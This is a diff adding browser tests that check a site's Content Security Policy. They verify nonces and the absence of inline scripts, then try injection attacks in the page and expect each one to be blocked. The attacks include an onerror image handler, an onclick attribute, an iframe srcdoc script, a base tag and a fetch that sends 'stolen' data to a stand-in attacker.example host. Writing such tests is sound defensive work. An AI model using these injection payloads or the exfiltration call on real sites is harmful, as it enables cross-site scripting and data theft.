@@ -1,0 +1,57 @@
+import { expect, test } from './support/fixtures.ts';
+
+for (const path of ['/', '/terms', '/nowhere'])
+  test(`${path} has no inline script, and no style without the nonce`, async ({ world }) => {
+    const answer = await fetch(world.url + path);
+    const html = await answer.text();
+    const [, nonce = ''] =
+      /'nonce-([\w-]{24})'/.exec(answer.headers.get('content-security-policy') ?? '') ?? [];
+    expect(nonce).not.toBe('');
+    const scripts = [...html.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/g)];
+    expect(scripts.length).toBeGreaterThan(1);
+    for (const [, attributes, code] of scripts) {
+      expect([attributes, code]).toEqual([expect.stringMatching(/ src="\/assets\//), '']);
+    }
+    const styles = [...html.matchAll(/<style\b([^>]*)>/g)].map(([, attributes = '']) => attributes);
+    for (const attributes of styles) expect(attributes).toContain(`nonce="${nonce}"`);
+    expect(html.split(nonce).length).toBeGreaterThan(1);
+    expect(html).not.toMatch(/<[^>]+\son\w+=|STYLE_NONCE|javascript:/);
+  });
+
+test('injected markup and scripts have no effect', async ({ page, world }) => {
+  const unknown: string[] = [];
+  page.on('console', (message) => {
+    if (message.text().includes('Permissions-Policy')) unknown.push(message.text());
+  });
+  for (const path of ['/', '/terms']) {
+    await page.goto(world.url + path);
+    await expect(page.getByRole('contentinfo')).toBeVisible();
+    // Each attack records what the browser allowed.
+    const done = await page.evaluate<string[]>(`(async () => {
+          const done = [];
+          // What runs in the evaluation itself may do more than the page.
+          await new Promise(requestAnimationFrame);
+          globalThis.note = (what) => done.push(what);
+          const attempt = (act) => { try { act(); } catch {} };
+          const put = (name, fields) => {
+            const element = Object.assign(document.createElement(name), fields);
+            document.body.append(element);
+            return element;
+          };
+          attempt(() => put('script', { textContent: 'note("inline script")' }));
+          attempt(() => { put('div').innerHTML = '<img src="x" onerror="note(\\'markup\\')">'; note('made markup'); });
+          attempt(() => put('button').setAttribute('onclick', 'note("handler")'));
+          attempt(() => put('iframe', { srcdoc: '<script>parent.note("frame")</script>' }));
+          attempt(() => new Function('note("code from text")')());
+          attempt(() => put('base', { href: 'https://attacker.example/' }));
+          if (!document.baseURI.startsWith(location.origin)) note('base');
+          put('style', { textContent: 'body { outline: 3px solid red !important }' });
+          if (getComputedStyle(document.body).outlineStyle === 'solid') note('style element');
+          await fetch('https://attacker.example/?stolen').then(() => note('sent'), () => undefined);
+          document.querySelectorAll('button').forEach((button) => button.hasAttribute('onclick') && button.click());
+          await new Promise(requestAnimationFrame);
+          return done;
+        })()`);
+    expect([done, unknown], path).toEqual([[], []]);
+  }
+});
